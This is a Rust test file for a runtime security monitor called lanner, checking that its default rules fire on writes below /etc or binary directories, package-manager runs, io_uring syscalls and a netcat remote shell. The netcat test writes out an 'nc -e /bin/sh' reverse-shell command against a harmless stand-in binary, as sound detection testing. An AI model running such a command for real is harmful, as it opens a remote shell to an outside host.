//! Each of lanner's own default rules, triggered by a real command under the real ptrace
//! driver, and a benign neighbour that must not trigger it.

use std::process::{Command, Output};

const LANNER: &str = env!("CARGO_BIN_EXE_lanner");

fn ptrace_available() -> bool {
    let report = lanner_driver_ptrace::probe();
    if !report.available {
        eprintln!("SKIPPED: the ptrace driver cannot run here: {report}");
    }
    report.available
}

/// Runs `sh -c script` under lanner with the embedded rules; returns the rule names alerted.
fn alerts_for(script: &str) -> Vec<String> {
    let out: Output = Command::new(LANNER)
        .args(["run", "--driver", "ptrace", "--", "sh", "-c", script])
        .output()
        .expect("lanner runs");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{script}: {stderr}");
    stderr
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter_map(|v| v["rule"].as_str().map(str::to_owned))
        .collect()
}

fn scratch(name: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("lanner-rules-{name}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    dir
}

#[test]
fn write_below_binary_dir() {
    if !ptrace_available() {
        return;
    }
    let target = format!("/usr/local/bin/lanner-test-{}", std::process::id());
    let alerts = alerts_for(&format!("touch {target}; rm -f {target}"));
    assert!(
        alerts
            .iter()
            .any(|r| r == "Write below binary dir by workload"),
        "{alerts:?}"
    );
    let dir = scratch("bin");
    let benign = alerts_for(&format!("touch {}/x", dir.display()));
    assert!(
        !benign
            .iter()
            .any(|r| r == "Write below binary dir by workload"),
        "{benign:?}"
    );
    std::fs::remove_dir_all(dir).ok();
}

#[test]
fn write_below_etc() {
    if !ptrace_available() {
        return;
    }
    let target = format!("/etc/lanner-test-{}", std::process::id());
    let alerts = alerts_for(&format!("echo x > {target}; rm -f {target}"));
    assert!(
        alerts.iter().any(|r| r == "Write below etc by workload"),
        "{alerts:?}"
    );
    let benign = alerts_for("cat /etc/hostname > /dev/null");
    assert!(
        !benign.iter().any(|r| r == "Write below etc by workload"),
        "{benign:?}"
    );
}

#[test]
fn package_manager_at_run_time() {
    if !ptrace_available() {
        return;
    }
    let alerts = alerts_for("dpkg --version > /dev/null");
    assert!(
        alerts
            .iter()
            .any(|r| r == "Package manager run by workload"),
        "{alerts:?}"
    );
    let benign = alerts_for("ls / > /dev/null");
    assert!(
        !benign
            .iter()
            .any(|r| r == "Package manager run by workload"),
        "{benign:?}"
    );
}

#[test]
fn netcat_remote_shell() {
    if !ptrace_available() {
        return;
    }
    // A program named nc (a copy of `true`): the rule looks at the name and the options.
    let dir = scratch("nc");
    let nc = dir.join("nc");
    std::fs::copy("/bin/true", &nc).expect("copy true");
    let alerts = alerts_for(&format!("{} -e /bin/sh 192.0.2.1 4444", nc.display()));
    assert!(
        alerts
            .iter()
            .any(|r| r == "Netcat remote shell by workload"),
        "{alerts:?}"
    );
    let benign = alerts_for(&format!("{} -z 192.0.2.1 4444", nc.display()));
    assert!(
        !benign
            .iter()
            .any(|r| r == "Netcat remote shell by workload"),
        "{benign:?}"
    );
    std::fs::remove_dir_all(dir).ok();
}

#[test]
fn io_uring_setup() {
    if !ptrace_available() {
        return;
    }
    // io_uring_setup(1, NULL): fails with EFAULT, but the attempt is what the rule is about.
    let alerts = alerts_for("perl -e 'syscall(425, 1, 0)'");
    assert!(
        alerts.iter().any(|r| r == "io_uring used by workload"),
        "{alerts:?}"
    );
    let benign = alerts_for("perl -e 'syscall(39)'");
    assert!(
        !benign.iter().any(|r| r == "io_uring used by workload"),
        "{benign:?}"
    );
}
